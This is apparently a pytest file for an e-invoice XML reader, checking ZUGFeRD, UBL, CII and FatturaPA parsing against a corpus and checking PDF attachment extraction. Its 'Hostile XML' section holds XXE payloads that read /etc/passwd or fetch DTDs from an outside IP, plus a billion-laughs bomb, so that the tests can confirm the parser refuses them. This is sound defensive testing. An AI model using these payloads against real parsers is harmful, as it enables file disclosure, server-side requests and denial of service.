"""E-invoice XML read exactly: the ZUGFeRD corpus against a table written independently, and hostile files."""

from __future__ import annotations

import io
import json
import re
import socket
import time
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from backend.tests.documents import pdf_bytes
from quire.documents.einvoice import HEAD_BYTES, EInvoice, embedded_einvoice, is_einvoice_xml, read_einvoice
from quire.errors import InvalidInput
from quire.workflows.invoice_summary import InvoiceSummary
from quire.workflows.models.invoice.einvoice_fields import einvoice_answer
from quire.workflows.models.invoice.lines import describe

CORPUS = Path(__file__).resolve().parents[1] / "corpus" / "zugferd"
XML_FILES = sorted((CORPUS / "xml").glob("*.xml"))
FACTUR_X = sorted((CORPUS / "factur-x").glob("*.pdf"))
# expected.json was written from the XML with lxml XPath on local-name(), not with this module.
EXPECTED: dict[str, dict[str, str | None]] = json.loads((CORPUS / "xml" / "expected.json").read_text("utf-8"))
TRUTH: dict[str, dict[str, Any]] = json.loads((CORPUS / "pdf" / "truth.json").read_text("utf-8"))
FIELDS = ("vendor", "invoice_number", "issue_date", "due_date", "currency", "subtotal", "tax", "total")
# Published cut off before its closing root tag (so upstream too): not well-formed, so not readable.
TRUNCATED = "fatturaPA__eigor__valid__con-ritenuta-acconto-e-cassa-previdenziale.xml"
EEISI = "not_validating_full_invoice_based_onTest_EeISI_300_CENfullmodel"


def _fields(invoice: EInvoice) -> dict[str, str | None]:
    values = {name: getattr(invoice, name) for name in FIELDS}
    return {name: None if value is None else str(value) for name, value in values.items()}


def _corpus(name: str) -> bytes:
    return (CORPUS / "xml" / name).read_bytes()


def _name(path: Path) -> str:
    return path.name


# The corpus -----------------------------------------------------------------------------------


def test_the_expected_table_covers_every_readable_corpus_file() -> None:
    assert set(EXPECTED) == {path.name for path in XML_FILES} - {TRUNCATED}
    assert len(EXPECTED) == 69


@pytest.mark.parametrize("path", [p for p in XML_FILES if p.name != TRUNCATED], ids=_name)
def test_every_corpus_file_reads_as_the_expected_table_says(path: Path) -> None:
    # Given a published e-invoice
    data = path.read_bytes()
    # When Quire reads it
    invoice = read_einvoice(data)
    # Then every header field matches the independently written table, and the syntax the file name says
    expected = EXPECTED[path.name]
    assert _fields(invoice) == {name: expected[name] for name in FIELDS}
    assert invoice.credit_note is (expected["document_type"] == "credit_note")
    syntax = "fatturapa" if path.name.startswith("fatturaPA") else "ubl" if "__UBL__" in path.name else "cii"
    assert invoice.syntax == syntax
    assert is_einvoice_xml(data[:HEAD_BYTES])


def test_a_truncated_corpus_file_is_invalid_input_not_a_guess() -> None:
    with pytest.raises(InvalidInput, match="not well-formed"):
        read_einvoice(_corpus(TRUNCATED))


@pytest.mark.parametrize("pdf", FACTUR_X, ids=_name)
def test_factur_x_pdfs_give_the_same_invoice_as_their_xml_twin(pdf: Path) -> None:
    # Given a Factur-X PDF and the CII file published for the same document
    twin = f"XML-Rechnung__CII__{pdf.stem}.cii.xml"
    # When the XML embedded in the PDF is read
    xml = embedded_einvoice(pdf.read_bytes())
    assert xml is not None
    invoice = read_einvoice(xml)
    # Then it is the twin, field for field, lines included
    assert invoice == read_einvoice(_corpus(twin))
    assert _fields(invoice) == {name: EXPECTED[twin][name] for name in FIELDS}
    assert invoice.line_items


def test_corpus_twins_of_the_page_only_pdfs_agree_with_truth_json() -> None:
    # truth.json was read from the XML embedded in the pdf/ files before it was removed: a second witness.
    twins = re.findall(r"\| (d\d+\.pdf) \| XML-Rechnung/FX/(\w+)\.pdf \|", (CORPUS / "SOURCES.md").read_text("utf-8"))
    assert len(twins) == 8
    # Due dates are left out: truth.json now holds the page's "Zahlbar ... bis" date where the XML had
    # none (pdf/TRUTH-FIXES.md), since the page is what a person reads.
    compared = [name for name in FIELDS if name != "due_date"]
    for pdf, stem in twins:
        truth = {name: TRUTH[pdf][name] for name in compared}
        if stem == "XRECHNUNG_Einfach":
            # The xml/ file is the 2024 edition of this sample; the PDF carried the 2018 one.
            truth["issue_date"] = "2024-11-15"
        fields = _fields(read_einvoice(_corpus(f"XML-Rechnung__CII__{stem}.cii.xml")))
        assert {name: fields[name] for name in compared} == truth, pdf


def test_pdfs_whose_xml_was_removed_carry_no_einvoice() -> None:
    assert [embedded_einvoice(path.read_bytes()) for path in sorted((CORPUS / "pdf").glob("*.pdf"))] == [None] * 45


# What the fields mean -------------------------------------------------------------------------


def test_amounts_are_decimals_exactly_as_written_and_lines_are_read() -> None:
    invoice = read_einvoice(_corpus("XML-Rechnung__CII__EN16931_Einfach.cii.xml"))
    assert (invoice.subtotal, invoice.tax, invoice.total) == (Decimal("473.00"), Decimal("56.87"), Decimal("529.87"))
    assert str(invoice.amount_due) == "529.87"
    lines = [
        (line.description, str(line.quantity), str(line.unit_price), str(line.amount)) for line in invoice.line_items
    ]
    assert lines == [
        ("Trennblätter A4", "20.0000", "9.9000", "198.00"),
        ("Joghurt Banane", "50.0000", "5.5000", "275.00"),
    ]
    assert (invoice.buyer, invoice.credit_note, invoice.language) == ("Kunden AG Mitte", False, None)


def test_dates_are_calendar_dates() -> None:
    invoice = read_einvoice(_corpus("XML-Rechnung__UBL__EN16931_Einfach_DueDate.ubl.xml"))
    assert (invoice.issue_date, invoice.due_date) == (date(2018, 3, 5), date(2019, 3, 5))


def test_the_amount_due_is_what_remains_after_prepayment() -> None:
    invoice = read_einvoice(_corpus("XML-Rechnung__UBL__EN16931_Einfach_negativePaymentDue.ubl.xml"))
    assert (invoice.total, invoice.amount_due) == (Decimal("529.87"), Decimal("-529.87"))


def test_tax_is_taken_in_the_invoice_currency_when_the_tax_currency_differs() -> None:
    # Given a CII invoice in EUR stating its VAT also in NOK, the NOK amount listed first
    data = _corpus(f"XML-Rechnung__CII__{EEISI}.cii.xml")
    eur = b'<ram:TaxTotalAmount currencyID="EUR">5.00</ram:TaxTotalAmount>'
    nok = b'<ram:TaxTotalAmount currencyID="NOK">4.60</ram:TaxTotalAmount>'
    swapped = data.replace(eur, b"<!--swap-->").replace(nok, eur).replace(b"<!--swap-->", nok)
    assert swapped.index(nok) < swapped.index(eur)
    # When it is read, then the tax is the EUR one, in either order; UBL likewise
    assert read_einvoice(data).tax == read_einvoice(swapped).tax == Decimal("5.00")
    ubl = read_einvoice(_corpus(f"XML-Rechnung__UBL__{EEISI}.ubl.xml"))
    assert (ubl.currency, ubl.tax) == ("EUR", Decimal("50"))


def test_credit_notes_keep_their_printed_amounts() -> None:
    ubl = read_einvoice(_corpus("XML-Rechnung__UBL__ubl-tc434-creditnote1.xml"))
    assert (ubl.credit_note, ubl.total, ubl.vendor) == (True, Decimal("100.11"), "My Supplier Company")
    assert ubl.line_items[0].quantity == Decimal("1.00")
    italian = read_einvoice(_corpus("fatturaPA__eigor__valid__A10-Licenses-CreditNote.xml"))
    assert (italian.credit_note, italian.total) == (True, Decimal("177.87"))
    invoice = _corpus("XML-Rechnung__CII__EN16931_Einfach.cii.xml")
    credit = invoice.replace(b"<ram:TypeCode>380</ram:TypeCode>", b"<ram:TypeCode>381</ram:TypeCode>", 1)
    assert read_einvoice(credit).credit_note
    assert read_einvoice(credit).total == read_einvoice(invoice).total == Decimal("529.87")


def test_a_self_billed_gutschrift_is_not_a_credit_note() -> None:
    # German "Gutschrift" here is type 389, a self-billed invoice, not 381.
    assert not read_einvoice(_corpus("XML-Rechnung__CII__EN16931_Gutschrift.cii.xml")).credit_note
    assert not read_einvoice(_corpus("XML-Rechnung__UBL__EN16931_Gutschrift.ubl.xml")).credit_note


def test_a_fatturapa_batch_gives_its_first_invoice() -> None:
    invoice = read_einvoice(_corpus("fatturaPA__official__valid__IT01234567890_FPA03.xml"))
    assert (invoice.invoice_number, invoice.total, invoice.amount_due) == ("12", Decimal("30.50"), None)


def test_a_fatturapa_person_is_named_by_nome_and_cognome() -> None:
    data = _corpus("fatturaPA__official__valid__IT01234567890_FPA01.xml")
    person = re.sub(rb"<Denominazione>ALPHA SRL</Denominazione>", b"<Nome>Mario</Nome><Cognome>Rossi</Cognome>", data)
    assert read_einvoice(person).vendor == "Mario Rossi"


ZUGFERD_1 = """<?xml version="1.0" encoding="UTF-8"?>
<rsm:CrossIndustryDocument xmlns:rsm="urn:ferd:CrossIndustryDocument:invoice:1p0"
  xmlns:ram="urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:12"
  xmlns:udt="urn:un:unece:uncefact:data:standard:UnqualifiedDataType:15">
 <rsm:HeaderExchangedDocument>
  <ram:ID>RE-20170509/505</ram:ID><ram:TypeCode>380</ram:TypeCode>
  <ram:IssueDateTime><udt:DateTimeString format="102">20170509</udt:DateTimeString></ram:IssueDateTime>
  <ram:LanguageID>de</ram:LanguageID>
 </rsm:HeaderExchangedDocument>
 <rsm:SpecifiedSupplyChainTradeTransaction>
  <ram:ApplicableSupplyChainTradeAgreement>
   <ram:SellerTradeParty><ram:Name>Bei Spiel GmbH</ram:Name></ram:SellerTradeParty>
   <ram:BuyerTradeParty><ram:Name>Theodor Est</ram:Name></ram:BuyerTradeParty>
  </ram:ApplicableSupplyChainTradeAgreement>
  <ram:ApplicableSupplyChainTradeSettlement>
   <ram:InvoiceCurrencyCode>EUR</ram:InvoiceCurrencyCode>
   <ram:SpecifiedTradePaymentTerms>
    <ram:DueDateDateTime><udt:DateTimeString format="102">20170530</udt:DateTimeString></ram:DueDateDateTime>
   </ram:SpecifiedTradePaymentTerms>
   <ram:SpecifiedTradeSettlementMonetarySummation>
    <ram:LineTotalAmount currencyID="EUR">496.00</ram:LineTotalAmount>
    <ram:TaxBasisTotalAmount currencyID="EUR">496.00</ram:TaxBasisTotalAmount>
    <ram:TaxTotalAmount currencyID="EUR">75.04</ram:TaxTotalAmount>
    <ram:GrandTotalAmount currencyID="EUR">571.04</ram:GrandTotalAmount>
    <ram:DuePayableAmount currencyID="EUR">571.04</ram:DuePayableAmount>
   </ram:SpecifiedTradeSettlementMonetarySummation>
  </ram:ApplicableSupplyChainTradeSettlement>
  <ram:IncludedSupplyChainTradeLineItem>
   <ram:SpecifiedSupplyChainTradeAgreement>
    <ram:NetPriceProductTradePrice><ram:ChargeAmount currencyID="EUR">160.0000</ram:ChargeAmount></ram:NetPriceProductTradePrice>
   </ram:SpecifiedSupplyChainTradeAgreement>
   <ram:SpecifiedSupplyChainTradeDelivery><ram:BilledQuantity unitCode="HUR">1.0000</ram:BilledQuantity></ram:SpecifiedSupplyChainTradeDelivery>
   <ram:SpecifiedSupplyChainTradeSettlement>
    <ram:SpecifiedTradeSettlementMonetarySummation>
     <ram:LineTotalAmount currencyID="EUR">160.00</ram:LineTotalAmount>
    </ram:SpecifiedTradeSettlementMonetarySummation>
   </ram:SpecifiedSupplyChainTradeSettlement>
   <ram:SpecifiedTradeProduct><ram:Name>Design work (hours)</ram:Name></ram:SpecifiedTradeProduct>
  </ram:IncludedSupplyChainTradeLineItem>
 </rsm:SpecifiedSupplyChainTradeTransaction>
</rsm:CrossIndustryDocument>
"""  # noqa: E501


def test_zugferd_1_is_read_like_cii() -> None:
    # Given a ZUGFeRD 1.0 document with the header of corpus pdf d07, written here in the 1.0 layout
    invoice = read_einvoice(ZUGFERD_1.encode())
    # Then its header matches what truth.json says d07's removed XML held
    assert _fields(invoice) == {name: TRUTH["d07.pdf"][name] for name in FIELDS}
    assert (invoice.syntax, invoice.buyer, invoice.language, invoice.amount_due) == (
        "cii",
        "Theodor Est",
        "de",
        Decimal("571.04"),
    )
    assert invoice.line_items[0].description == "Design work (hours)"
    assert invoice.line_items[0].unit_price == Decimal("160.0000")
    assert invoice.line_items[0].amount == Decimal("160.00")


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        (b"<ram:GrandTotalAmount>529.87<", b"<ram:GrandTotalAmount>529,87<", "not a number"),
        (b'format="102">20180305<', b'format="102">20180230<', "date Quire cannot read"),
        (b'format="102">20180305<', b'format="610">201803<', "format Quire does not read"),
    ],
)
def test_a_value_that_cannot_be_read_exactly_is_invalid_input(old: bytes, new: bytes, message: str) -> None:
    data = _corpus("XML-Rechnung__CII__EN16931_Einfach.cii.xml")
    assert old in data
    with pytest.raises(InvalidInput, match=message):
        read_einvoice(data.replace(old, new, 1))


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "not well-formed"),
        (b"%PDF-1.7\n", "not well-formed"),
        (b'<?xml version="1.0" encoding="no-such-encoding"?><a/>', "not well-formed"),
        (b"<note><to>Tove</to></note>", "not an e-invoice"),
        (b"<Invoice><ID>1</ID></Invoice>", "not an e-invoice"),
    ],
)
def test_xml_that_is_no_einvoice_is_invalid_input(data: bytes, message: str) -> None:
    with pytest.raises(InvalidInput, match=message):
        read_einvoice(data)


# Deciding by content ------------------------------------------------------------------------------

UBL_NS = "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
CREDIT_NOTE_NS = b"urn:oasis:names:specification:ubl:schema:xsd:CreditNote-2"


@pytest.mark.parametrize(
    "head",
    [
        f'<Invoice xmlns="{UBL_NS}">'.encode(),
        f'<?xml version="1.0"?>\n<ubl:Invoice xmlns:ubl="{UBL_NS}"/>'.encode(),
        b'\xef\xbb\xbf<?xml version="1.0"?><!-- note -->\n<x:CreditNote xmlns:x="' + CREDIT_NOTE_NS + b'">',
        b"<rsm:CrossIndustryInvoice xmlns:rsm='urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100'>",
        b'<CrossIndustryDocument xmlns="urn:ferd:CrossIndustryDocument:invoice:1p0">',
        b'<p:FatturaElettronica versione="FPA12" xmlns:p="http://ivaservizi.agenziaentrate.gov.it/docs/xsd/fatture/v1.2">',
        f'\ufeff<?xml version="1.0" encoding="UTF-16"?><Invoice xmlns="{UBL_NS}">'.encode("utf-16-le"),
    ],
    ids=["ubl-default-ns", "ubl-prefix", "creditnote-bom-comment", "cii", "zugferd-1", "fatturapa", "utf-16"],
)
def test_einvoice_roots_are_recognised_whatever_the_prefix(head: bytes) -> None:
    assert is_einvoice_xml(head)


@pytest.mark.parametrize(
    "head",
    [
        b"<!DOCTYPE html><html><body><p>Invoice</p></body></html>",
        b'<html xmlns="http://www.w3.org/1999/xhtml"><body>Invoice</body></html>',
        b'<?xml version="1.0"?><note><to>Tove</to></note>',
        b'<?xml version="1.0"?><Invoice><ID>1</ID></Invoice>',
        b'<Invoice xmlns="urn:example:not-ubl">',
        b'<ubl:Invoice xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">',
        f'<!DOCTYPE Invoice [<!ENTITY x "y">]><Invoice xmlns="{UBL_NS}">'.encode(),
        b"Invoice 42 from ACME: 100.00 EUR",
        b"%PDF-1.7\n",
        b"",
    ],
    ids=[
        "html",
        "xhtml",
        "xml",
        "invoice-without-ns",
        "other-ns",
        "undeclared-prefix",
        "doctype",
        "text",
        "pdf",
        "empty",
    ],
)
def test_other_content_is_not_an_einvoice(head: bytes) -> None:
    assert not is_einvoice_xml(head)


def test_the_head_must_reach_past_a_long_leading_comment() -> None:
    # The XML-Rechnung CII samples open with a 5.7 KB licence comment: 4 KB of them cannot decide.
    data = _corpus("XML-Rechnung__CII__EN16931_Einfach.cii.xml")
    assert not is_einvoice_xml(data[:4096])
    assert is_einvoice_xml(data[:HEAD_BYTES])


# Hostile XML ------------------------------------------------------------------------------------

CBC_NS = "urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"
LAUGHS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))


def _dressed_as_ubl(doctype: str, invoice_id: str = "1") -> bytes:
    invoice = f'<Invoice xmlns="{UBL_NS}" xmlns:cbc="{CBC_NS}"><cbc:ID>{invoice_id}</cbc:ID></Invoice>'
    return f'<?xml version="1.0"?>\n{doctype}\n{invoice}'.encode()


HOSTILE = {
    "xxe-file": _dressed_as_ubl('<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
    "xxe-http": _dressed_as_ubl('<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "http://203.0.113.7/x">]>', "&xxe;"),
    "external-dtd": _dressed_as_ubl('<!DOCTYPE Invoice SYSTEM "http://203.0.113.7/evil.dtd">'),
    "parameter-entity": _dressed_as_ubl('<!DOCTYPE Invoice [<!ENTITY % p SYSTEM "http://203.0.113.7/p.dtd"> %p;]>'),
    "billion-laughs": _dressed_as_ubl(f'<!DOCTYPE Invoice [<!ENTITY lol0 "lol">{LAUGHS}]>', "&lol9;"),
}


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """Record any attempt to resolve or connect; the parser must make none."""
    attempts: list[object] = []

    def refuse(*args: object, **kwargs: object) -> None:
        attempts.append(args)
        raise OSError("network use in a unit test")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    return attempts


@pytest.mark.parametrize("xml", list(HOSTILE.values()), ids=list(HOSTILE))
def test_hostile_xml_is_refused_quickly_without_the_network(xml: bytes, no_network: list[object]) -> None:
    # Given an XXE or entity-expansion file dressed as a UBL invoice
    started = time.perf_counter()
    # When Quire reads it, then it refuses before expanding or fetching anything
    with pytest.raises(InvalidInput, match="DTD"):
        read_einvoice(xml)
    assert time.perf_counter() - started < 1.0
    assert no_network == []


# PDFs carrying XML ----------------------------------------------------------------------------


def _pdf_with(attachments: dict[str, bytes]) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes(["Invoice 1"]))))
    for name, content in attachments.items():
        writer.add_attachment(name, content)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_any_attached_einvoice_xml_is_found_and_the_standard_name_wins() -> None:
    ubl = _corpus("XML-Rechnung__UBL__EN16931_Einfach.ubl.xml")
    cii = _corpus("XML-Rechnung__CII__EN16931_Einfach.cii.xml")
    assert embedded_einvoice(_pdf_with({"notes.xml": b"<note/>", "invoice-4711.xml": ubl})) == ubl
    assert embedded_einvoice(_pdf_with({"0-sorts-first.xml": ubl, "ZUGFeRD-invoice.xml": cii})) == cii
    assert embedded_einvoice(_pdf_with({"notes.xml": b"<note/>", "factur-x.xml": b"<html/>"})) is None


@pytest.mark.parametrize(
    "pdf",
    [
        b"",
        b"not a pdf",
        b"%PDF-1.7\n%%EOF",
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Names 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF",
        (CORPUS / "factur-x" / "EN16931_Einfach_DueDate.pdf").read_bytes()[:20_000],
        pdf_bytes(["no attachments here"]),
    ],
    ids=["empty", "not-pdf", "header-only", "dangling-names", "truncated", "no-attachment"],
)
def test_a_damaged_or_plain_pdf_gives_none(pdf: bytes) -> None:
    assert embedded_einvoice(pdf) is None


def test_an_e_invoice_credit_note_keeps_its_amounts_and_says_it_is_one() -> None:
    # Given a UBL credit note, which states its amounts positive, and a self-billed German "Gutschrift" (type 389)
    credit = einvoice_answer(read_einvoice(_corpus("XML-Rechnung__UBL__ubl-tc434-creditnote1.xml")))
    self_billed = einvoice_answer(read_einvoice(_corpus("XML-Rechnung__CII__EN16931_Gutschrift.cii.xml")))
    assert describe(credit).startswith("Credit note 018304 / 28865 from My Supplier Company")
    # Then the result says it is a credit note and gives its amounts negative, as for a credit note read from a page
    result = InvoiceSummary.model_validate({**credit, "summary": describe(credit)})
    assert (result.document_type, result.total, result.subtotal) == (
        "credit_note",
        Decimal("-100.11"),
        Decimal("-100.11"),
    )
    assert result.tax == 0
    assert InvoiceSummary.model_validate({**self_billed, "summary": ""}).document_type == "invoice"
